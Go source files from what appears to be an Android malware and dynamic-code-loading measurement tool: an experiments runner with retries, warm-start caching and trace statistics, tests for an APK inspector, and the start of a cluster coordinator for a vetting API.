	// run's observability artifacts: traces.jsonl (the kept slowest app
	// span trees, one per line), runstats.json (the RunStats block) and
	// fleet.json (the shard's mergeable measurement snapshot).
	TraceDir string
	// SlowTraces bounds how many of the slowest app traces the run keeps
	// in RunStats.Slowest (default 5, negative disables keeping traces).
	SlowTraces int

	// analyze is the per-app analysis function, replaceable in tests to
	// inject failures. It receives a context carrying the app's trace.
	analyze func(context.Context, *core.Analyzer, *corpus.Store, *corpus.StoreApp) (*AppRecord, error)
}

// AppRecord pairs store metadata with the pipeline's findings for one app.
type AppRecord struct {
	Meta   corpus.Metadata
	Result *core.AppResult
	// ReplayLoaded maps each Table VIII configuration to the set of
	// malicious file paths still loaded under it (malware apps only).
	ReplayLoaded map[core.ReplayConfig]map[string]bool
	// MalwarePaths is the set of paths DroidNative flagged for this app.
	MalwarePaths map[string]bool
	// Err is the pipeline failure for this app after retries (FailRecord
	// policy); Result then carries StatusAnalysisError.
	Err error
}

// RunStats is the observability block of a measurement run.
type RunStats struct {
	// Elapsed is the wall-clock measurement time.
	Elapsed time.Duration
	// Apps is the number of records produced (equals the corpus size on a
	// completed run).
	Apps int
	// Succeeded / Failed split Apps by pipeline outcome; Retried counts
	// extra attempts made under the retry policy.
	Succeeded int
	Failed    int
	Retried   int
	// AppsPerSec is the end-to-end throughput.
	AppsPerSec float64
	// StatusCounts tallies the per-app Table II statuses (including
	// analysis-error records).
	StatusCounts map[core.Status]int
	// Stages holds the per-stage duration histograms
	// (stage.unpack/rewrite/dynamic/static/replay, app.total).
	Stages map[string]metrics.StageStats
	// Counters is the raw counter section of the metrics snapshot.
	Counters map[string]int64
	// StageQuantiles holds exact per-stage latency percentiles computed
	// from the collected span trees, keyed by span name (app, analyze,
	// unpack, rewrite, dynamic, interception, static, replay). Unlike
	// Stages (bucketed histograms), these are true order statistics.
	StageQuantiles map[string]Quantiles `json:"stage_quantiles,omitempty"`
	// Slowest lists the slowest fresh analyses by root span duration,
	// slowest first, each carrying its full span tree.
	Slowest []SlowApp `json:"slowest,omitempty"`
}

// Quantiles are exact order statistics over one stage's span durations.
type Quantiles struct {
	Count int           `json:"count"`
	P50   time.Duration `json:"p50"`
	P95   time.Duration `json:"p95"`
	P99   time.Duration `json:"p99"`
}

// SlowApp is one kept slow-app trace.
type SlowApp struct {
	Package string        `json:"package"`
	Total   time.Duration `json:"total"`
	Trace   *trace.Trace  `json:"trace"`
}

// String renders the stats block as an aligned report section.
func (s RunStats) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "run: %d apps in %s (%.1f apps/sec), %d failed, %d retried\n",
		s.Apps, s.Elapsed.Round(time.Millisecond), s.AppsPerSec, s.Failed, s.Retried)
	if len(s.StatusCounts) > 0 {
		t := stats.NewTable("status counts", "status", "apps")
		for _, st := range []core.Status{
			core.StatusExercised, core.StatusNoDCL, core.StatusUnpackFailure,
			core.StatusRewriteFailure, core.StatusNoActivity, core.StatusCrash,
			core.StatusAnalysisError,
		} {
			if n := s.StatusCounts[st]; n > 0 {
				t.Row(string(st), n)
			}
		}
		b.WriteString(t.String())
		b.WriteString("\n")
	}
	b.WriteString(metrics.Snapshot{Counters: s.Counters, Stages: s.Stages}.String())
	if len(s.StageQuantiles) > 0 {
		names := make([]string, 0, len(s.StageQuantiles))
		for name := range s.StageQuantiles {
			names = append(names, name)
		}
		sort.Strings(names)
		t := stats.NewTable("trace quantiles (exact)", "span", "count", "p50", "p95", "p99")
		for _, name := range names {
			q := s.StageQuantiles[name]
			t.Row(name, q.Count, q.P50.Round(time.Microsecond).String(),
				q.P95.Round(time.Microsecond).String(), q.P99.Round(time.Microsecond).String())
		}
		b.WriteString("\n")
		b.WriteString(t.String())
	}
	if len(s.Slowest) > 0 {
		fmt.Fprintf(&b, "\nslowest apps:\n")
		for _, sl := range s.Slowest {
			fmt.Fprintf(&b, "  %-40s %s\n", sl.Package, sl.Total.Round(time.Microsecond))
		}
	}
	return b.String()
}

// Results is the complete measurement output.
type Results struct {
	Config  Config
	Scale   float64
	Records []*AppRecord
	// Elapsed is the wall-clock measurement time.
	Elapsed time.Duration
	// RunStats carries throughput, failure counts and per-stage timings.
	RunStats RunStats
	// Fleet is the run's mergeable measurement snapshot — the same shape
	// dydroidd serves at /v1/fleet. With Config.TraceDir set it is also
	// written as fleet.json, so sharded runs can be combined with
	// `apkinspect fleet merge`.
	Fleet *telemetry.Snapshot
}

// Err aggregates the per-app failures recorded under the FailRecord
// policy (nil when every app analyzed cleanly).
func (r *Results) Err() error {
	var errs []error
	for _, rec := range r.Records {
		if rec != nil && rec.Err != nil {
			errs = append(errs, fmt.Errorf("experiments: %s: %w", rec.Meta.Package, rec.Err))
		}
	}
	return errors.Join(errs...)
}

// Failures returns the records whose analysis failed after retries.
func (r *Results) Failures() []*AppRecord {
	var out []*AppRecord
	for _, rec := range r.Records {
		if rec != nil && rec.Err != nil {
			out = append(out, rec)
		}
	}
	return out
}

// Run executes the measurement.
func Run(cfg Config) (*Results, error) {
	if cfg.Scale <= 0 {
		cfg.Scale = 1.0
	}
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.GOMAXPROCS(0)
	}
	if cfg.MaxAttempts <= 0 {
		cfg.MaxAttempts = 2
	}
	if cfg.SlowTraces == 0 {
		cfg.SlowTraces = 5
	}
	parent := cfg.Context
	if parent == nil {
		parent = context.Background()
	}
	ctx, cancel := context.WithCancel(parent)
	defer cancel()
	reg := cfg.Metrics
	if reg == nil {
		reg = metrics.New()
	}
	analyze := cfg.analyze
	if analyze == nil {
		analyze = analyzeOne
	}

	start := time.Now()
	// Pre-worker phase: corpus generation and classifier training both
	// honour cfg.Context, so a cancelled run returns before any worker
	// starts instead of planning a marketplace first.
	ccfg := corpus.Config{Seed: cfg.Seed, Scale: cfg.Scale}
	var (
		store  *corpus.Store
		stream *corpus.AppStream
		total  int
		err    error
	)
	if cfg.Stream {
		stream, err = corpus.Stream(ctx, ccfg, 2*cfg.Workers)
		if err == nil {
			store, total = stream.Store, stream.Total
		}
	} else {
		store, err = corpus.GenerateContext(ctx, ccfg)
		if err == nil {
			total = len(store.Apps)
		}
	}
	if err != nil {
		return nil, fmt.Errorf("experiments: %w", err)
	}
	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("experiments: run cancelled before training: %w", err)
	}
	clf, err := store.TrainingSet(cfg.TrainPerFamily)
	if err != nil {
		return nil, fmt.Errorf("experiments: %w", err)
	}

	records := make([]*AppRecord, total)
	var (
		wg      sync.WaitGroup
		mu      sync.Mutex // guards done, errs, failed, retried
		done    int
		failed  int
		retried int
		errs    []error
	)
	// Workers drain one unified app channel whichever way the corpus
	// arrives: the streaming producer's own channel, or an inline
	// dispatcher over the materialized list.
	var jobs <-chan *corpus.StoreApp
	if stream != nil {
		jobs = stream.Apps()
	} else {
		ch := make(chan *corpus.StoreApp)
		jobs = ch
		go func() {
			defer close(ch)
			for _, app := range store.Apps {
				select {
				case ch <- app:
				case <-ctx.Done():
					return
				}
			}
		}()
	}
	collector := newTraceCollector(cfg.SlowTraces)
	fleet := telemetry.New(telemetry.Options{})

	// runTraced wraps one analysis attempt in a fresh per-app trace whose
	// root "app" span covers the pipeline plus any replays; successful
	// attempts feed the collector and the fleet aggregator.
	runTraced := func(an *core.Analyzer, app *corpus.StoreApp, digest string) (*AppRecord, error) {
		actx, root := trace.Start(ctx, "app")
		if digest != "" {
			trace.FromContext(actx).Digest = digest
		}
		rec, err := analyze(actx, an, store, app)
		root.SetAttr("package", app.Spec.Pkg)
		root.EndErr(err)
		if err == nil {
			collector.add(app.Spec.Pkg, trace.FromContext(actx))
			fleet.ObserveApp(rec.Result, trace.FromContext(actx))
		}
		return rec, err
	}

	worker := func() {
		defer wg.Done()
		an := newAnalyzer(cfg, store, clf, reg)
		for app := range jobs {
			if ctx.Err() != nil {
				continue // drain without analyzing once cancelled
			}
			var (
				rec    *AppRecord
				digest string
			)
			if cfg.Warm != nil {
				rec, digest = warmLookup(cfg.Warm, cfg, store, app, reg)
			}
			if rec == nil {
				var err error
				rec, err = runTraced(an, app, digest)
				for attempt := 2; err != nil && attempt <= cfg.MaxAttempts && ctx.Err() == nil; attempt++ {
					reg.Add("apps.retried", 1)
					mu.Lock()
					retried++
					mu.Unlock()
					rec, err = runTraced(an, app, digest)
				}
				if err != nil {
					reg.Add("apps.failed", 1)
					mu.Lock()
					failed++
					errs = append(errs, fmt.Errorf("experiments: %s: %w", app.Spec.Pkg, err))
					mu.Unlock()
					if cfg.OnFailure == FailFast {
						cancel()
					} else {
						rec = failureRecord(app, err)
						fleet.ObserveError(app.Spec.Pkg, err, nil)
						fleet.ObserveApp(rec.Result, nil)
					}
				} else if cfg.Warm != nil {
					warmSave(cfg.Warm, cfg, digest, rec, reg)
				}
			} else {
				// Warm hit: the cached result still counts in this shard's
				// measurement aggregate (no trace — analysis was skipped).
				fleet.ObserveApp(rec.Result, nil)
			}
			records[app.Index] = rec
			mu.Lock()
			done++
			d := done
			mu.Unlock()
			if cfg.Progress != nil && (d%500 == 0 || d == total) {
				cfg.Progress(d, total)
			}
		}
	}
	for w := 0; w < cfg.Workers; w++ {
		wg.Add(1)
		go worker()
	}
	wg.Wait()

	if cfg.OnFailure == FailFast {
		mu.Lock()
		joined := errors.Join(errs...)
		mu.Unlock()
		if joined != nil {
			return nil, joined
		}
	}
	if err := parent.Err(); err != nil {
		return nil, fmt.Errorf("experiments: run cancelled after %d/%d apps: %w", done, total, err)
	}

	elapsed := time.Since(start)
	res := &Results{
		Config:  cfg,
		Scale:   cfg.Scale,
		Records: records,
		Elapsed: elapsed,
	}
	res.RunStats = buildStats(reg, records, elapsed, failed, retried)
	res.RunStats.StageQuantiles, res.RunStats.Slowest = collector.stats()
	res.Fleet = fleet.Snapshot()
	if cfg.TraceDir != "" {
		if err := writeTraceDir(cfg.TraceDir, res.RunStats, res.Fleet); err != nil {
			return nil, err
		}
	}
	return res, nil
}

// failureRecord is the placeholder stored for an app whose analysis
// failed after retries: the run keeps its slot (no nil records) and the
// error travels with the record.
func failureRecord(app *corpus.StoreApp, err error) *AppRecord {
	return &AppRecord{
		Meta: app.Meta,
		Result: &core.AppResult{
			Package: app.Spec.Pkg,
			Status:  core.StatusAnalysisError,
			Crash:   err,
		},
		Err: err,
	}
}

func buildStats(reg *metrics.Registry, records []*AppRecord, elapsed time.Duration, failed, retried int) RunStats {
	snap := reg.Snapshot()
	st := RunStats{
		Elapsed:      elapsed,
		Apps:         len(records),
		Succeeded:    len(records) - failed,
		Failed:       failed,
		Retried:      retried,
		StatusCounts: make(map[core.Status]int),
		Stages:       snap.Stages,
		Counters:     snap.Counters,
	}
	if secs := elapsed.Seconds(); secs > 0 {
		st.AppsPerSec = float64(len(records)) / secs
	}
	for _, rec := range records {
		if rec != nil && rec.Result != nil {
			st.StatusCounts[rec.Result.Status]++
		}
	}
	return st
}

func newAnalyzer(cfg Config, store *corpus.Store, clf *droidnative.Classifier, reg *metrics.Registry) *core.Analyzer {
	return core.NewAnalyzer(core.Options{
		Seed:         cfg.Seed,
		MonkeyEvents: cfg.MonkeyEvents,
		Classifier:   clf,
		Network:      store.Network,
		SetupDevice:  store.SetupDevice,
		Metrics:      reg,
	})
}

// analyzeOne runs the pipeline for one app and, when malware is found,
// the four replay configurations; everything joins the trace carried by
// ctx, so the app's span tree covers analysis and replays alike.
func analyzeOne(ctx context.Context, an *core.Analyzer, store *corpus.Store, app *corpus.StoreApp) (*AppRecord, error) {
	data, err := store.BuildAPK(app)
	if err != nil {
		return nil, err
	}
	res, err := an.AnalyzeAPKContext(ctx, data)
	if err != nil {
		return nil, err
	}
	rec := &AppRecord{Meta: app.Meta, Result: res}
	if len(res.Malware) > 0 {
		rec.MalwarePaths = make(map[string]bool, len(res.Malware))
		for _, hit := range res.Malware {
			rec.MalwarePaths[hit.Path] = true
		}
		rec.ReplayLoaded = make(map[core.ReplayConfig]map[string]bool, len(core.AllReplayConfigs))
		for _, rc := range core.AllReplayConfigs {
			// Replays reuse the analysis run's parse (res.Prepared): the
			// archive is never parsed or decoded again.
			loaded, err := an.ReplayPreparedContext(ctx, res.Prepared, rc, app.Meta.ReleaseDate)
			if err != nil {
				return nil, err
			}
			rec.ReplayLoaded[rc] = loaded
		}
	}
	// Drop intercepted binaries and the parsed archive after static
	// analysis and replays to keep full-scale runs memory-light; the
	// measurement only needs the annotations.
	res.Prepared = nil
	for _, ev := range res.Events {
		ev.Intercepted = nil
	}
	return rec, nil
}
