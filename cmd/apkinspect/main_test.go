package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/nativebin"
	"github.com/dydroid/dydroid/internal/obfuscation"
)

func writeTestAPK(t *testing.T) string {
	t.Helper()
	b := dex.NewBuilder()
	m := b.Class("com.inspect.Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 4, "V", "Landroid/os/Bundle;")
	m.NewInstance(1, "dalvik.system.DexClassLoader").ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	nb := nativebin.NewBuilder("libdemo.so", "arm")
	nb.Symbol("JNI_OnLoad").MovI(0, 0).Ret()
	libBytes, err := nativebin.Encode(nb.Build())
	if err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: "com.inspect", MinSDK: 16,
			Permissions: []apk.UsesPerm{{Name: "android.permission.INTERNET"}},
			Application: apk.Application{Activities: []apk.Component{{Name: "com.inspect.Main", Main: true}}}},
		Dex:        dexBytes,
		Assets:     map[string][]byte{"cfg.bin": {1, 2, 3}},
		NativeLibs: map[string][]byte{"libdemo.so": libBytes},
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "demo.apk")
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestInspectSummary(t *testing.T) {
	path := writeTestAPK(t)
	var out strings.Builder
	if err := run(&out, path, "", "", false); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"package:    com.inspect",
		"permission: android.permission.INTERNET",
		"component:  activity  com.inspect.Main",
		"class:      com.inspect.Main",
		"asset:      cfg.bin (3 bytes)",
		"native lib: libdemo.so",
		"pre-filter: dex-dcl=true native-dcl=true",
	} {
		if !strings.Contains(out.String(), want) {
			t.Fatalf("summary missing %q:\n%s", want, out.String())
		}
	}
}

func TestInspectSmaliAndLib(t *testing.T) {
	path := writeTestAPK(t)
	var out strings.Builder
	if err := run(&out, path, "com.inspect.Main", "", false); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), ".class public Lcom/inspect/Main;") {
		t.Fatalf("smali output wrong:\n%s", out.String())
	}
	out.Reset()
	if err := run(&out, path, "", "libdemo.so", false); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "JNI_OnLoad:") {
		t.Fatalf("lib disassembly wrong:\n%s", out.String())
	}
	if err := run(&out, path, "com.missing.Class", "", false); err == nil {
		t.Fatal("missing class accepted")
	}
	if err := run(&out, path, "", "libnone.so", false); err == nil {
		t.Fatal("missing lib accepted")
	}
}

func TestInspectAntiDecompileNeedsFixedVersion(t *testing.T) {
	// An anti-decompilation sample crashes the default tool but not -fixed.
	b := dex.NewBuilder()
	b.Class("com.adx.Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: "com.adx",
			Application: apk.Application{Activities: []apk.Component{{Name: "com.adx.Main", Main: true}}}},
		Dex: dexBytes,
	}
	ob, err := obfuscation.AddAntiDecompilation(a)
	if err != nil {
		t.Fatal(err)
	}
	data, err := apk.Build(ob)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "adx.apk")
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	if err := run(&out, path, "", "", false); err == nil {
		t.Fatal("buggy tool survived anti-decompilation")
	}
	if err := run(&out, path, "", "", true); err != nil {
		t.Fatalf("-fixed tool failed: %v", err)
	}
}
