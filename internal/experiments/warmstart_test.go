package experiments

import (
	"context"
	"errors"
	"path/filepath"
	"reflect"
	"sync/atomic"
	"testing"

	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/corpus"
	"github.com/dydroid/dydroid/internal/resultstore"
)

func openWarmStore(t *testing.T) *resultstore.Store {
	t.Helper()
	ws, err := resultstore.Open(resultstore.Options{
		Dir:     filepath.Join(t.TempDir(), "warm"),
		Version: WarmVersion,
	})
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	return ws
}

// TestWarmStartSkipsAnalyzedApps: a cold run populates the warm store;
// a second run over the same corpus performs zero analyses and yields
// equivalent records.
func TestWarmStartSkipsAnalyzedApps(t *testing.T) {
	ws := openWarmStore(t)
	cfg := Config{Seed: 11, Scale: 0.002, Workers: 4, Warm: ws}

	var cold atomic.Int64
	cfg.analyze = func(ctx context.Context, an *core.Analyzer, st *corpus.Store, app *corpus.StoreApp) (*AppRecord, error) {
		cold.Add(1)
		return analyzeOne(ctx, an, st, app)
	}
	r1, err := Run(cfg)
	if err != nil {
		t.Fatalf("cold Run: %v", err)
	}
	total := len(r1.Records)
	if total == 0 {
		t.Fatal("no records")
	}
	if got := cold.Load(); got != int64(total) {
		t.Fatalf("cold run analyzed %d of %d apps", got, total)
	}
	c := r1.RunStats.Counters
	if c["warm.stores"] != int64(total) || c["warm.hits"] != 0 || c["warm.misses"] != int64(total) {
		t.Fatalf("cold counters: stores=%d hits=%d misses=%d want %d/0/%d",
			c["warm.stores"], c["warm.hits"], c["warm.misses"], total, total)
	}

	var warm atomic.Int64
	cfg.Metrics = nil
	cfg.analyze = func(ctx context.Context, an *core.Analyzer, st *corpus.Store, app *corpus.StoreApp) (*AppRecord, error) {
		warm.Add(1)
		return analyzeOne(ctx, an, st, app)
	}
	r2, err := Run(cfg)
	if err != nil {
		t.Fatalf("warm Run: %v", err)
	}
	if got := warm.Load(); got != 0 {
		t.Fatalf("warm run re-analyzed %d apps", got)
	}
	c = r2.RunStats.Counters
	if c["warm.hits"] != int64(total) || c["warm.misses"] != 0 || c["warm.errors"] != 0 {
		t.Fatalf("warm counters: hits=%d misses=%d errors=%d want %d/0/0",
			c["warm.hits"], c["warm.misses"], c["warm.errors"], total)
	}
	if len(r2.Records) != total {
		t.Fatalf("warm run produced %d records, want %d", len(r2.Records), total)
	}
	for i := range r2.Records {
		a, b := r1.Records[i], r2.Records[i]
		if a.Meta != b.Meta {
			t.Fatalf("record %d meta drifted: %+v vs %+v", i, a.Meta, b.Meta)
		}
		if a.Result.Status != b.Result.Status || a.Result.Package != b.Result.Package {
			t.Fatalf("record %d result drifted: %s/%s vs %s/%s", i,
				a.Result.Package, a.Result.Status, b.Result.Package, b.Result.Status)
		}
		if len(a.Result.Events) != len(b.Result.Events) {
			t.Fatalf("record %d events drifted: %d vs %d", i, len(a.Result.Events), len(b.Result.Events))
		}
		if !reflect.DeepEqual(a.MalwarePaths, b.MalwarePaths) {
			t.Fatalf("record %d malware paths drifted", i)
		}
		if !reflect.DeepEqual(a.ReplayLoaded, b.ReplayLoaded) {
			t.Fatalf("record %d replay results drifted", i)
		}
	}
}

// TestWarmStartConfigMismatchIsMiss: records cached under one fuzzing
// configuration must not satisfy a run with another.
func TestWarmStartConfigMismatchIsMiss(t *testing.T) {
	ws := openWarmStore(t)
	cfg := Config{Seed: 11, Scale: 0.002, Workers: 2, Warm: ws}
	r1, err := Run(cfg)
	if err != nil {
		t.Fatalf("first Run: %v", err)
	}
	total := len(r1.Records)

	cfg.MonkeyEvents = 40 // different budget → cache must not serve
	r2, err := Run(cfg)
	if err != nil {
		t.Fatalf("second Run: %v", err)
	}
	c := r2.RunStats.Counters
	if c["warm.hits"] != 0 || c["warm.misses"] != int64(total) {
		t.Fatalf("mismatched config served from cache: hits=%d misses=%d", c["warm.hits"], c["warm.misses"])
	}
}

// TestWarmStartDoesNotCacheFailures: failure records are not stored, so
// a later run retries the app and caches the successful result.
func TestWarmStartDoesNotCacheFailures(t *testing.T) {
	ws := openWarmStore(t)
	cfg := Config{Seed: 11, Scale: 0.002, Workers: 2, MaxAttempts: 1, Warm: ws}
	cfg.analyze = func(ctx context.Context, an *core.Analyzer, st *corpus.Store, app *corpus.StoreApp) (*AppRecord, error) {
		if appIndex(st, app) == 0 {
			return nil, errors.New("injected failure")
		}
		return analyzeOne(ctx, an, st, app)
	}
	r1, err := Run(cfg)
	if err != nil {
		t.Fatalf("first Run: %v", err)
	}
	total := len(r1.Records)
	if r1.RunStats.Failed != 1 {
		t.Fatalf("failed = %d, want 1", r1.RunStats.Failed)
	}
	if got := r1.RunStats.Counters["warm.stores"]; got != int64(total-1) {
		t.Fatalf("stored %d records, want %d (failures must not be cached)", got, total-1)
	}

	cfg.analyze = nil
	r2, err := Run(cfg)
	if err != nil {
		t.Fatalf("second Run: %v", err)
	}
	c := r2.RunStats.Counters
	if c["warm.hits"] != int64(total-1) || c["warm.misses"] != 1 || c["warm.stores"] != 1 {
		t.Fatalf("retry counters: hits=%d misses=%d stores=%d want %d/1/1",
			c["warm.hits"], c["warm.misses"], c["warm.stores"], total-1)
	}
	if err := r2.Err(); err != nil {
		t.Fatalf("retried run still failing: %v", err)
	}
}
