package experiments

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"sync"
	"time"

	"github.com/dydroid/dydroid/internal/telemetry"
	"github.com/dydroid/dydroid/internal/trace"
)

// traceCollector aggregates the span trees produced by the run's workers
// into exact per-stage duration distributions plus a bounded list of the
// slowest apps. Safe for concurrent use.
type traceCollector struct {
	mu      sync.Mutex
	durs    map[string][]time.Duration
	slowest []SlowApp // sorted slowest-first, len <= keep
	keep    int
}

func newTraceCollector(keep int) *traceCollector {
	return &traceCollector{durs: make(map[string][]time.Duration), keep: keep}
}

// add folds one app's trace in: every span's duration lands in its
// name's distribution (multiple spans of one name in a tree — e.g. the
// four replays — each count), and the trace competes for a slow slot by
// root duration.
func (c *traceCollector) add(pkg string, t *trace.Trace) {
	if c == nil || t == nil || t.Root == nil {
		return
	}
	total := t.Root.Duration()
	c.mu.Lock()
	defer c.mu.Unlock()
	t.Root.Walk(func(s *trace.Span) {
		c.durs[s.Name] = append(c.durs[s.Name], s.Duration())
	})
	if c.keep <= 0 {
		return
	}
	if len(c.slowest) == c.keep && total <= c.slowest[len(c.slowest)-1].Total {
		return
	}
	c.slowest = append(c.slowest, SlowApp{Package: pkg, Total: total, Trace: t})
	sort.Slice(c.slowest, func(i, j int) bool { return c.slowest[i].Total > c.slowest[j].Total })
	if len(c.slowest) > c.keep {
		c.slowest = c.slowest[:c.keep]
	}
}

// stats returns the exact per-stage quantiles and the kept slow traces.
// It sorts copies of the collected distributions: the live slices keep
// their append order, so interleaved add calls and repeated stats calls
// never observe (or build on) a half-sorted prefix.
func (c *traceCollector) stats() (map[string]Quantiles, []SlowApp) {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make(map[string]Quantiles, len(c.durs))
	for name, durs := range c.durs {
		sorted := append([]time.Duration(nil), durs...)
		sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
		out[name] = Quantiles{
			Count: len(sorted),
			P50:   quantileExact(sorted, 0.50),
			P95:   quantileExact(sorted, 0.95),
			P99:   quantileExact(sorted, 0.99),
		}
	}
	return out, append([]SlowApp(nil), c.slowest...)
}

// quantileScale expresses quantiles as parts-per-million so the
// nearest-rank computation stays in integer arithmetic.
const quantileScale = 1_000_000

// quantileExact is the nearest-rank order statistic over sorted durs:
// rank = ceil(q·n), computed with integer ceiling math so boundary counts
// (q·n exactly integral) rank exactly instead of through a float-epsilon
// ceiling.
func quantileExact(durs []time.Duration, q float64) time.Duration {
	n := int64(len(durs))
	if n == 0 {
		return 0
	}
	ppm := int64(q*quantileScale + 0.5) // exact for quantiles with <= 6 decimals
	rank := (n*ppm + quantileScale - 1) / quantileScale
	if rank < 1 {
		rank = 1
	}
	if rank > n {
		rank = n
	}
	return durs[rank-1]
}

// writeTraceDir persists the run's observability artifacts: the kept
// slowest traces as JSONL, the whole RunStats block as JSON, and the
// shard's mergeable fleet snapshot (fleet.json).
func writeTraceDir(dir string, st RunStats, fleet *telemetry.Snapshot) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return fmt.Errorf("experiments: trace dir: %w", err)
	}
	f, err := os.Create(filepath.Join(dir, "traces.jsonl"))
	if err != nil {
		return fmt.Errorf("experiments: trace dir: %w", err)
	}
	for _, s := range st.Slowest {
		if err := trace.EncodeJSONL(f, s.Trace); err != nil {
			f.Close()
			return fmt.Errorf("experiments: %w", err)
		}
	}
	if err := f.Close(); err != nil {
		return fmt.Errorf("experiments: trace dir: %w", err)
	}
	raw, err := json.MarshalIndent(st, "", "  ")
	if err != nil {
		return fmt.Errorf("experiments: %w", err)
	}
	if err := os.WriteFile(filepath.Join(dir, "runstats.json"), raw, 0o644); err != nil {
		return fmt.Errorf("experiments: trace dir: %w", err)
	}
	if fleet != nil {
		if err := fleet.WriteFile(filepath.Join(dir, "fleet.json")); err != nil {
			return fmt.Errorf("experiments: trace dir: %w", err)
		}
	}
	return nil
}
