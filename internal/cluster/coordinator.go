package cluster

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"strings"
	"sync"
	"time"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/metrics"
)

// Config assembles a Coordinator.
type Config struct {
	// Nodes is the explicit-join member list: worker addresses
	// ("host:port" or full base URLs). At least one is required.
	Nodes []string
	// VNodes is the virtual-node count per member (default DefaultVNodes).
	VNodes int
	// ProbeInterval is the health-probe period (default 2s).
	ProbeInterval time.Duration
	// ProbeFailures is K: a node is ejected from the ring after K
	// consecutive failed probes or forwards, and rejoins on the next
	// successful probe (default 3).
	ProbeFailures int
	// MaxAttempts bounds the per-request failover chain: a scan or read
	// touches at most this many distinct nodes in ring order before the
	// coordinator answers 502 (default 3).
	MaxAttempts int
	// MaxBodyBytes bounds one forwarded submission (default 64 MiB).
	MaxBodyBytes int64
	// Client performs node requests (default: 30s-timeout client).
	Client *http.Client
	// Metrics receives coordinator counters. Optional.
	Metrics *metrics.Registry
	// Logger receives membership transitions (eject/rejoin). Optional.
	Logger *slog.Logger
}

// member is the coordinator's view of one worker.
type member struct {
	name    string // as configured, the ring label
	baseURL string

	inRing   bool
	fails    int // consecutive probe/forward failures
	lastErr  string
	degraded bool
	draining bool
	queueLen, queueDepth, inflight int
	snapshotVersion                int
	ejections                      int64
}

// Coordinator routes the vetting API across the worker ring. Create with
// New, mount Handler, and call Close to stop the prober.
type Coordinator struct {
	cfg    Config
	reg    *metrics.Registry
	client *http.Client

	mu      sync.Mutex
	ring    *Ring
	members map[string]*member

	done      chan struct{}
	wg        sync.WaitGroup
	closeOnce sync.Once
}

// New validates the config, joins every configured node, and starts the
// health prober.
func New(cfg Config) (*Coordinator, error) {
	if len(cfg.Nodes) == 0 {
		return nil, errors.New("cluster: Config.Nodes requires at least one worker")
	}
	if cfg.VNodes <= 0 {
		cfg.VNodes = DefaultVNodes
	}
	if cfg.ProbeInterval <= 0 {
		cfg.ProbeInterval = 2 * time.Second
	}
	if cfg.ProbeFailures <= 0 {
		cfg.ProbeFailures = 3
	}
	if cfg.MaxAttempts <= 0 {
		cfg.MaxAttempts = 3
	}
	if cfg.MaxBodyBytes <= 0 {
		cfg.MaxBodyBytes = 64 << 20
	}
	if cfg.Client == nil {
		cfg.Client = &http.Client{Timeout: 30 * time.Second}
	}
	c := &Coordinator{
		cfg:     cfg,
		reg:     cfg.Metrics,
		client:  cfg.Client,
		ring:    NewRing(cfg.VNodes),
		members: make(map[string]*member, len(cfg.Nodes)),
		done:    make(chan struct{}),
	}
	for _, n := range cfg.Nodes {
		n = strings.TrimSpace(n)
		if n == "" {
			continue
		}
		if _, dup := c.members[n]; dup {
			return nil, fmt.Errorf("cluster: node %q configured twice", n)
		}
		c.members[n] = &member{name: n, baseURL: baseURL(n), inRing: true}
		c.ring.Add(n)
	}
	if len(c.members) == 0 {
		return nil, errors.New("cluster: Config.Nodes requires at least one worker")
	}
	c.wg.Add(1)
	go c.probeLoop()
	return c, nil
}

// baseURL normalizes a configured node address to a URL base.
func baseURL(node string) string {
	if strings.Contains(node, "://") {
		return strings.TrimRight(node, "/")
	}
	return "http://" + node
}

// Close stops the prober. In-flight proxied requests finish on their own.
func (c *Coordinator) Close() {
	c.closeOnce.Do(func() { close(c.done) })
	c.wg.Wait()
}

// Handler returns the coordinator's HTTP routes — the same vetting API
// surface the workers serve, plus the cluster status view.
func (c *Coordinator) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/scan", c.handleScan)
	mux.HandleFunc("GET /v1/result/{digest}", c.handleResult)
	mux.HandleFunc("GET /v1/trace/{digest}", c.handleTrace)
	mux.HandleFunc("GET /v1/fleet", c.handleFleet)
	mux.HandleFunc("GET /v1/healthz", c.handleHealthz)
	mux.HandleFunc("GET /v1/cluster/status", c.handleStatus)
	return mux
}

// candidates returns the bounded failover chain for a digest: up to
// MaxAttempts distinct live nodes in ring order from the owner, with
// degraded and draining nodes deprioritized (stable) so a saturated
// worker stops receiving new scans before it starts answering 429.
func (c *Coordinator) candidates(digest string) []*member {
	c.mu.Lock()
	defer c.mu.Unlock()
